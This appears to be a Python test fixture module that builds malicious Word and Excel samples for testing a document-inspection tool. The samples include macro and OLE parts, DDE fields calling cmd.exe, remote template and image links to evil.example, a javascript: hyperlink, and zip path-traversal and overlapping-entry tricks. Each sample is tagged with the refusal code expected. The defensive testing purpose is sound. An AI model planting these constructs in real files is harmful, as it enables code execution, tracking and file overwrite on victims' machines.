"""Hostile Word and Excel files and the containers they come in."""

from __future__ import annotations

import io
import struct
import zipfile

from records.inspection.disguises import OLE
from tests.hostile.honest import (
    DOCX_MAIN,
    HEAD,
    content_types,
    document_xml,
    docx,
    docx_parts,
    packed,
    relationships,
    xlsx,
)
from tests.hostile.making import hostile

MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def word(what, more, *codes):
    """A Word document with these parts, refused for active content unless said otherwise."""
    data = packed({**docx_parts(), **more})
    return hostile(what, "a.docx", data, *codes or ("active_content",))


def macros():
    """Office files that run something or fetch something."""
    yield word("macro project", {"word/vbaProject.bin": OLE + b"\0" * 100})
    yield word("macro document renamed", {"[Content_Types].xml": content_types(MACRO_MAIN)})
    yield word(
        "macro type beside the honest one",
        {
            "[Content_Types].xml": content_types(
                DOCX_MAIN, f'<Override PartName="/word/x.xml" ContentType="{MACRO_MAIN}"/>'
            )
        },
    )
    yield word("OLE object", {"word/embeddings/oleObject1.bin": OLE + b"\0" * 100})
    yield word("OLE under an honest name", {"word/media/image1.png": OLE + b"\0" * 100})
    yield word("program under an honest name", {"word/media/image1.png": b"MZ" + b"\0" * 99})
    yield word("ActiveX control", {"word/activeX/activeX1.xml": HEAD + "<a/>"})
    yield word(
        "ActiveX by relationship",
        {
            "word/_rels/document.xml.rels": relationships(
                ("control", "activeX1.xml", False), ("activeXControlBinary", "a", False)
            )
        },
    )
    yield word("ribbon with commands", {"customUI/customUI.xml": HEAD + "<customUI/>"})
    yield word(
        "embedded HTML",
        {"word/_rels/document.xml.rels": relationships(("aFChunk", "chunk.html", False))},
    )
    field = "<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"
    yield word("DDE field", {"word/document.xml": document_xml(body=field)})
    cut = "".join(f"<w:r><w:instrText>{c}</w:instrText></w:r>" for c in ("DD", "EAU", "TO x"))
    yield word("DDE field in pieces", {"word/document.xml": document_xml(body=f"<w:p>{cut}</w:p>")})
    simple = '<w:fldSimple w:instr="DDE cmd"/>'
    yield word("DDE in an attribute", {"word/document.xml": document_xml(body=simple)})


def remote_parts():
    """Word documents that fetch something when they are opened."""
    for what, kind, target in (
        ("remote template", "attachedTemplate", "https://evil.example/t.dotm"),
        ("remote template on a share", "attachedTemplate", "file://evil.example/share/t.dotm"),
        ("remote picture", "image", "https://evil.example/pixel.png"),
        ("remote OLE link", "oleObject", "https://evil.example/a.xls"),
        ("script link", "hyperlink", "javascript:alert(1)"),
        ("link to a file", "hyperlink", "file:///c:/windows/system32/calc.exe"),
        ("link to a share", "hyperlink", "\\\\evil.example\\share"),
        ("remote frame", "frame", "https://evil.example/"),
    ):
        rels = {"word/_rels/document.xml.rels": relationships((kind, target, True))}
        yield word(what, rels, "fetches_from_elsewhere", "active_content")
    hidden = {
        "word/_rels/document.xml.rels": relationships(("image", "https://evil.example", False))
    }
    yield word("remote picture not marked as external", hidden, "fetches_from_elsewhere")


def acting_books():
    """Workbooks that run or fetch something."""
    for what, path in (
        ("workbook: old macro sheet", "xl/macrosheets/sheet1.xml"),
        ("workbook: data connection", "xl/connections.xml"),
        ("workbook: link to another book", "xl/externalLinks/externalLink1.xml"),
    ):
        yield hostile(what, "a.xlsx", with_part(xlsx(), path, HEAD + "<a/>"), "active_content")


def with_part(container, path, data):
    """A container with one part more."""
    out = io.BytesIO(container)
    with zipfile.ZipFile(out, "a") as more:
        more.writestr(path, data)
    return out.getvalue()


def containers():
    """Odd zip containers."""
    parts = docx_parts()
    yield hostile(
        "path out of the container",
        "a.docx",
        packed({**parts, "../../evil.xml": "<a/>"}),
        "part_name",
    )
    yield hostile(
        "absolute path in the container",
        "a.docx",
        packed({**parts, "/etc/evil.xml": "<a/>"}),
        "part_name",
    )
    yield hostile(
        "same part twice", "a.docx", with_part(docx(), "WORD/document.xml", "<a/>"), "part_name"
    )
    deep = "/".join("abcdefghijklmnop") + ".xml"
    yield hostile(
        "folders without a bottom", "a.docx", packed({**parts, deep: "<a/>"}), "part_name"
    )
    yield hostile("odd packing", "a.docx", packed(parts, zipfile.ZIP_BZIP2), "odd_packing")
    flagged = bytearray(docx())
    place = flagged.find(b"PK\x01\x02")
    flagged[place + 8] |= 1
    yield hostile("encrypted zip", "a.docx", bytes(flagged), "file_encrypted")
    encrypted = OLE + b"\0" * 500 + "EncryptedPackage".encode("utf-16-le")
    yield hostile("encrypted Word document", "a.docx", encrypted, "file_encrypted")
    yield hostile("encrypted workbook", "a.xlsx", encrypted, "file_encrypted")


def overlapping():
    """Two names for the same packed bytes."""
    whole = docx()
    with zipfile.ZipFile(io.BytesIO(whole)) as container:
        first, second = container.infolist()[:2]
        start = container.start_dir
    table = bytearray(whole[start:])
    old, new = struct.pack("<I", second.header_offset), struct.pack("<I", first.header_offset)
    place = table.find(second.filename.encode()) - 4
    assert table[place : place + 4] == old
    table[place : place + 4] = new
    return whole[:start] + bytes(table)


def holds_itself():
    """A container whose part claims to begin at the container's own first byte."""
    whole = with_part(docx(), "word/self.docx", docx())
    with zipfile.ZipFile(io.BytesIO(whole)) as container:
        start, offset = container.start_dir, container.getinfo("word/self.docx").header_offset
    table = bytearray(whole[start:])
    place = table.find(b"word/self.docx") - 4
    assert table[place : place + 4] == struct.pack("<I", offset)
    table[place : place + 4] = b"\0\0\0\0"
    return whole[:start] + bytes(table)
